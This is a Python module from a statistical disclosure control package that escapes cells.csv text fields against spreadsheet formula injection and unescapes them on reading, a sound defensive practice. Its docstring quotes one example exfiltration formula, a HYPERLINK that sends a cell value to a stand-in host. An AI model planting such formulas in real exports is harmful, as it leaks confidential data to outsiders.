"""cells.csv's text: never a formula in a spreadsheet, read back exactly.

An output checker opens cells.csv (every true value and status) in a spreadsheet
program; a code such as ``=HYPERLINK("http://x/?"&C2,"click")`` would run there and
send confidential values away. So every text field, the header's dimension names too,
goes through :func:`~fivesafes.sdc.formats.injection.csv_field` (OWASP's apostrophe),
and report.json says so (``"cells_csv": {"formula_escaped": true}``). A reader undoes
the escape only when the report says so: a cells.csv written before holds codes raw,
and a raw code ``'=x`` would otherwise lose its apostrophe.
"""

from __future__ import annotations

import csv
from collections.abc import Mapping, Sequence
from typing import Any

import pandas as pd

from fivesafes.sdc.formats.injection import csv_field, csv_unescape

# report.json's key for how cells.csv is written, and the value this version writes
CELLS_CSV_FORMAT = "cells_csv"
FORMULA_ESCAPED = "formula_escaped"
ESCAPED_FORMAT: Mapping[str, Any] = {FORMULA_ESCAPED: True}


def formula_escaped(report: Mapping[str, Any] | None) -> bool:
    """Whether the cells.csv written with ``report`` has its text fields escaped."""
    if not isinstance(report, Mapping):
        return False
    fmt = report.get(CELLS_CSV_FORMAT)
    return isinstance(fmt, Mapping) and fmt.get(FORMULA_ESCAPED) is True


def with_format(report: Mapping[str, Any]) -> dict[str, Any]:
    """``report`` saying that its cells.csv is written by :func:`cells_csv_text`."""
    return {**report, CELLS_CSV_FORMAT: dict(ESCAPED_FORMAT)}


def cells_csv_text(cells: pd.DataFrame) -> str:
    """cells.csv's content: every text field (header included) escaped by ``csv_field``."""
    out = cells.copy()
    carriage_return = False
    for col in _text_columns(out):
        out[col] = out[col].map(csv_field).astype(object)
        carriage_return = carriage_return or bool(out[col].map(_has_cr).any())
    out.columns = [str(csv_field(str(c))) for c in cells.columns]
    carriage_return = carriage_return or any("\r" in c for c in out.columns)
    # Python 3.11's csv leaves a field holding a carriage return unquoted when lines end
    # in "\n", and a reader ends the row there: then every text field is quoted
    if carriage_return:
        return str(out.to_csv(index=False, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC))
    return str(out.to_csv(index=False, lineterminator="\n"))


def _text_columns(cells: pd.DataFrame) -> list[Any]:
    return [
        c
        for c in cells.columns
        if cells[c].dtype == object or pd.api.types.is_string_dtype(cells[c].dtype)
    ]


def _has_cr(value: Any) -> bool:
    return isinstance(value, str) and "\r" in value


def escaped_names(dimensions: Sequence[str]) -> list[str]:
    """The dimension names as the header of an escaped cells.csv holds them."""
    return [str(csv_field(d)) for d in dimensions]


def _unescape(value: Any) -> Any:
    return csv_unescape(value) if isinstance(value, str) else value


def unescape_cells(cells: pd.DataFrame) -> pd.DataFrame:
    """Inverse of the escape of :func:`cells_csv_text`: header and text fields as written."""
    out = cells.copy()
    for col in _text_columns(out):
        dtype = out[col].dtype  # a code column stays of the type it was read as
        out[col] = out[col].map(_unescape).astype(dtype)
    out.columns = [csv_unescape(str(c)) for c in cells.columns]
    return out
